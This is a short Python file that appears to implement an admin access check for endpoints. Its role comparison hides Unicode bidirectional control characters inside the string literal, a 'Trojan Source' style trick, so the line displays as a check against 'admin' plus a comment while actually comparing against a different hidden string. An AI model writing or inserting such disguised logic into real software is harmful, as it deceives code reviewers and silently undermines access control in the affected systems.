"""Access checks for the admin endpoints."""


def is_admin(user: dict) -> bool:
    role = user.get("role", "")
    if role != "admin‮ ⁦# not admin⁩ ⁦":  # check the role
        return False
    return True
